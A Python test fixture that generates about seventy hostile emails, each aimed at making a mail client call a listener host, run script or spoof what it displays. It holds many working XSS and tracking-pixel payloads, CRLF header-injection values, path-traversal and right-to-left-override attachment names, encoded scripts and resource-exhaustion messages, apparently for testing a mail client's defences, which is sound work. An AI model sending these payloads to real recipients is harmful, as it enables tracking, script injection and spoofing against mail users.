"""Seventy mails that want to be noticed: each reaches out, runs something, or pretends, in a way of its own.

``{host}`` is where a mail would reach: a name of its own and a port, so whoever listens there knows which mail it was.
"""

import base64
from collections.abc import Callable, Iterator
from urllib.parse import quote

_HTML: dict[str, str] = {
    "picture": '<img src="http://{host}/p.png">',
    "picture without a scheme": '<img src="//{host}/p.png">',
    "picture in a set": '<img srcset="http://{host}/a.png 1x, http://{host}/b.png 2x">',
    "picture and source": '<picture><source srcset="http://{host}/s.webp"><img src="x" lowsrc="http://{host}/l"></picture>',
    "background": '<table background="http://{host}/bg.png"><tr><td background="http://{host}/td">x</table>',
    "style": "<style>@import url(http://{host}/i.css);body{{background:url('http://{host}/s.png')}}</style>x",
    "style of an element": '<p style="background:url(http://{host}/e.png)">x</p>',
    "style with escapes": r'<p style="background:\75\72\6c(http://{host}/esc.png)">x</p>',
    "style with a picture set": "<p style=\"background:image-set('http://{host}/set.png' 1x)\">x</p>",
    "font": "<style>@font-face{{font-family:f;src:url(http://{host}/f.woff)}}p{{font-family:f}}</style><p>x</p>",
    "stylesheet": '<link rel="stylesheet" href="http://{host}/l.css">',
    "look-up beforehand": '<link rel="dns-prefetch" href="//{host}"><link rel="preconnect" href="http://{host}">',
    "page beforehand": '<link rel="prerender" href="http://{host}/r"><link rel="prefetch" href="http://{host}/f">',
    "switch for look-ups": '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://{host}/">x</a>',
    "other page": '<meta http-equiv="refresh" content="0;url=http://{host}/refresh">',
    "base": '<base href="http://{host}/"><img src="relative.png"><a href="relative">x</a>',
    "script": '<script>new Image().src="http://{host}/script"</script>',
    "script from elsewhere": '<script src="http://{host}/s.js"></script>',
    "script at an error": "<img src=x onerror=\"fetch('http://{host}/onerror')\">",
    "script at a load": "<body onload=\"top.location='http://{host}/onload'\">x",
    "script in an address": '<a href="javascript:fetch(\'http://{host}/js\')" autofocus onfocus="alert(1)">x</a>',
    "script in a half tag": "<<script>alert(1)//<</script><img src='http://{host}/half'",
    "script in a comment": "<!--><script>fetch('http://{host}/comment')</script>-->",
    "script in mathematics": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "script by a template": "<template><script>fetch('http://{host}/t')</script></template><noscript><img src=http://{host}/n>",
    "drawing": "<svg onload=\"fetch('http://{host}/svg')\"><image href='http://{host}/i.png'/><use href='http://{host}/u#x'/></svg>",
    "drawing as a picture": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://{host}/d'/></svg>\">",
    "frame": '<iframe src="http://{host}/frame"></iframe><frameset><frame src="http://{host}/f"></frameset>',
    "frame of its own": "<iframe srcdoc=\"<script>parent.fetch('http://{host}/srcdoc')</script>\"></iframe>",
    "object": '<object data="http://{host}/o"></object><embed src="http://{host}/e"><applet code="x" codebase="http://{host}/"></applet>',
    "film": '<video src="//{host}/v" poster="//{host}/p" autoplay></video><audio src="//{host}/a" autoplay></audio>',
    "form": '<form action="http://{host}/form" method=post><input name=a value=b autofocus><button>x</button></form>',
    "refresh without quotes": "x<META HTTP-EQUIV=Refresh CONTENT='0; URL=//{host}/refresh2'>",
    "import without an address": '<style>@import "http://{host}/i2.css" screen;</style><style>@import'
    " '//{host}/i3';</style>",
    "style with a comment": '<p style="background:u/**/rl(http://{host}/c.png)">x</p>',
    "style in entities": '<p style="background&#58;ur&#108;(//{host}/ent.png)">x</p>',
    "style with a variable": '<p style="--a:url(//{host}/v);background:var(--a);list-style:url(//{host}/ls)">x</p>',
    "style of the pointer": "<p"
    ' style="cursor:url(//{host}/cur),auto;content:url(//{host}/ct);border-image:url(//{host}/bi) 9">x</p>',
    "drawing that uses another": '<svg><use xlink:href="//{host}/u.svg#a"/><filter><feImage'
    ' href="//{host}/fe"/></filter>'
    "<style>@import url(//{host}/si.css)</style><foreignObject><img src=//{host}/fgn></foreignObject></svg>",
    "drawing that changes itself": '<svg><a><animate attributeName=href values="javascript:alert(1)"/>'
    "<set attributeName=onmouseover to=alert(1)><text>x</text></a></svg>",
    "page within the page": "<portal src=//{host}/portal></portal><fencedframe src=//{host}/ff></fencedframe>",
    "things beforehand": "<link rel=preload as=image href=//{host}/pre><link rel=modulepreload href=//{host}/mp>"
    "<link rel=icon href=//{host}/ico><link rel=manifest href=//{host}/man>",
    "guesses of what comes": '<script type=speculationrules>{{"prefetch":[{{"urls":["http://{host}/spec"]}}]}}</script>',
    "things that open": "<details open ontoggle=alert(1)><marquee onstart=alert(1)>x</marquee></details>"
    "<dialog open oncancel=alert(1)><button popovertarget=p formaction=//{host}/fa autofocus"
    " onfocus=alert(1)>x</button></dialog>",
    "tag in an attribute": "<img src='x' alt=\"<img src=//{host}/in>\" title='\"><img src=//{host}/in2>'>",
    "tag with holes": "<im\0g src=//{host}/null><scr\0ipt>alert(1)</script><i\0mg src=//{host}/null2>",
    "page in an address": '<iframe src="data:text/html,<img src=//{host}/df>"></iframe><object'
    ' data="data:text/html,<img src=//{host}/do>"></object>',
    "policy of its own": '<meta http-equiv=Content-Security-Policy content="default-src *"><img src=//{host}/csp>',
    "part of another mail": '<img src="cid:http://{host}/cid"><img src="mid:x@{host}/y"><img src="filesystem:http://{host}/f">',
    "old elements": "<body background=//{host}/bb><bgsound src=//{host}/bs><img dynsrc=//{host}/ds"
    " longdesc=//{host}/ld>"
    "<layer src=//{host}/la></layer><input type=image src=//{host}/inp>",
    "picture with a tail": '<img src="data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)"><img'
    ' src="data:image/png;base64,AAAA" srcset="//{host}/t 2x">',
    "hidden for some": "<![CDATA[<img src=//{host}/cdata>]]><!--[if IE]><img src=//{host}/ie><![endif]--><?xml"
    " <img src=//{host}/pi> ?>",
    "who has seen it": "<a href=//{host}/x attributionsrc=//{host}/attr>x</a><img attributionsrc=//{host}/at2"
    " src=//{host}/at3>",
    "shadow": "<div><template shadowrootmode=open><img src=//{host}/shadow></template><slot></slot></div>",
    "called home by a click": '<a href="http://{host}/click" ping="http://{host}/ping" target="_top">x</a>',
}


JUST_HTML = len(_HTML)
"""So many come first, and are nothing but HTML."""


def _html(text: str) -> Callable[[str], bytes]:
    def mail(host: str) -> bytes:
        return (
            b"From: a@example.org\r\nSubject: hostile\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
            + text.format(host=host).encode()
        )

    return mail


def _subject(host: str) -> bytes:
    hidden = base64.b64encode(f"\"><img src='http://{host}/subject'><script>alert(1)</script>".encode()).decode()
    return f"From: a@example.org\r\nSubject: =?utf-8?b?{hidden}?=\r\n\r\nx\r\n".encode()


def _addresses(host: str) -> bytes:
    name = f'"<svg/onload=fetch(//{host}/from)>" <x@example.org>'
    return f"From: {name}\r\nTo: '\"><img src=//{host}/to>\r\nDate: <script>alert(1)</script>\r\n\r\nx\r\n".encode()


def _turned_around(host: str) -> bytes:
    return f"From: a@example.org\r\nSubject: \u202egnp.exe\u2066\x1b[2J http://{host}/\r\n\r\n\u202etxet\r\n".encode()


def _text(host: str) -> bytes:
    return f"Content-Type: text/plain\r\n\r\n</pre><script>fetch('http://{host}/text')</script>\r\n".encode()


def _names_of_attachments(host: str) -> bytes:
    return (
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n'
        'Content-Disposition: attachment; filename="../../x<img src=//' + host + '/name>.html"\r\n\r\n'
        f"<script>fetch('http://{host}/attachment')</script>\r\n--b\r\nContent-Type: image/svg+xml\r\n"
        "Content-Disposition: attachment; filename*=utf-8''%0d%0aSet-Cookie:%20a=b.svg\r\n\r\n"
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('http://{host}/svgfile')\"/>\r\n--b--\r\n"
    ).encode()


def _type_of_a_part(host: str) -> bytes:
    return (
        "Content-Type: text/html; charset=utf-7\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.b64encode(
            f"+ADw-script+AD4-fetch('http://{host}/utf7')+ADw-/script+AD4-<img src=//{host}/u>".encode()
        ).decode()
    ).encode()


def _web_archive(host: str) -> bytes:
    return (
        f"Content-Type: multipart/related; boundary=b\r\nContent-Base: http://{host}/base/\r\n"
        f"Content-Location: http://{host}/index.html\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
        f"<img src=rel.png><img src='http://{host}/rel.png'>\r\n--b\r\nContent-Type: image/svg+xml\r\n"
        f"Content-Location: http://{host}/rel.png\r\nContent-ID: <a>\r\n\r\n<svg onload=alert(1)>\r\n--b--\r\n"
    ).encode()


def _names_that_pretend(host: str) -> bytes:
    names = (
        "../../../etc/passwd",
        "C:\\\\evil.bat",
        "photo\u202egpj.exe",
        "CON",
        ".",
        "..",
        "a" * 5000 + ".txt",
        "\0x",
    )
    parts = "".join(
        f"--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename*=utf-8''{quote(name)}\r\n\r\n"
        f"<script src=http://{host}/name></script>\r\n"
        for name in (*names, "a\r\nSet-Cookie: b=c\r\n\r\n<script>alert(1)</script>")
    )
    return f"Content-Type: multipart/mixed; boundary=b\r\n\r\n{parts}--b--\r\n".encode()


def _lines_in_headers(host: str) -> bytes:
    hidden = quote(f"a\r\nSet-Cookie: x=1\r\nLocation: http://{host}/\r\n\r\n<script>alert(1)</script>").replace(
        "%", "="
    )
    return f"Subject: =?utf-8?q?{hidden}?=\r\nFrom: =?utf-8?q?{hidden}?= <a@{host}>\r\n\r\nx\r\n".encode()


def _who_wants_to_know(host: str) -> bytes:
    return (
        f"Disposition-Notification-To: x@{host}\r\nReturn-Receipt-To: x@{host}\r\nBIMI-Location: v=BIMI1; l=http://{host}/b\r\n"
        f"List-Unsubscribe: <http://{host}/u>\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n"
        f"X-Image-URL: http://{host}/face\r\nRefresh: 0; url=http://{host}/r\r\nLink: <//{host}/l>;"
        f" rel=preload\r\n\r\nx\r\n"
    ).encode()


def _half_characters(host: str) -> bytes:
    return (
        "Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-7\r\n\r\n"
        f"+2AA-<p>+2AA-</p><img src=//{host}/half>\r\n--b\r\nContent-Type: text/plain; charset=unicode_escape\r\n\r\n"
        f"\\ud800 \\x3cscript src=//{host}/esc\\x3e\r\n--b--\r\n"
    ).encode()


def _slow_characters(host: str) -> bytes:
    return b"Content-Type: text/html; charset=punycode\r\n\r\n" + b"a" * 300_000 + f"-<img src=//{host}/p>".encode()


def _parts_elsewhere(host: str) -> bytes:
    inner = f"Content-Type: text/html\r\n\r\n<img src=http://{host}/inner>"
    return (
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        f'--b\r\nContent-Type: message/external-body; access-type=URL; URL="http://{host}/ext"\r\n\r\n{inner}\r\n'
        f"--b\r\nContent-Type: message/rfc822\r\n\r\n{inner}\r\n"
        f"--b\r\nContent-Type: application/xhtml+xml\r\n\r\n<html><img src='http://{host}/xhtml'/></html>\r\n"
        f"--b\r\nContent-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nATTACH:http://{host}/cal\r\n--b--\r\n"
    ).encode()


def _quoted(host: str) -> bytes:
    text = "".join(
        f"={octet:02X}" for octet in f"<script>fetch('http://{host}/qp')</script><img src=//{host}/qp2>".encode()
    )
    return f"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{text}=\r\n=ZZ=0".encode()


def _parts_without_end(host: str) -> bytes:
    parts = "".join(f"--b{n}\r\nContent-Type: multipart/mixed; boundary=b{n + 1}\r\n\r\n" for n in range(2000))
    return f"Content-Type: multipart/mixed; boundary=b0\r\n\r\n{parts}<img src=http://{host}/deep>".encode()


def hostile_mails(host: Callable[[int], str]) -> Iterator[tuple[str, bytes]]:
    """Return name and content of each; ``host`` says where the mail of a number is to reach."""
    mails = {name: _html(text) for name, text in _HTML.items()} | {
        "subject": _subject,
        "addresses": _addresses,
        "turned around": _turned_around,
        "text": _text,
        "names of attachments": _names_of_attachments,
        "type of a part": _type_of_a_part,
        "web archive": _web_archive,
        "names that pretend": _names_that_pretend,
        "lines in headers": _lines_in_headers,
        "who wants to know": _who_wants_to_know,
        "half characters": _half_characters,
        "slow characters": _slow_characters,
        "parts elsewhere": _parts_elsewhere,
        "quoted": _quoted,
        "parts without end": _parts_without_end,
    }
    for number, (name, mail) in enumerate(mails.items()):
        yield name, mail(host(number))
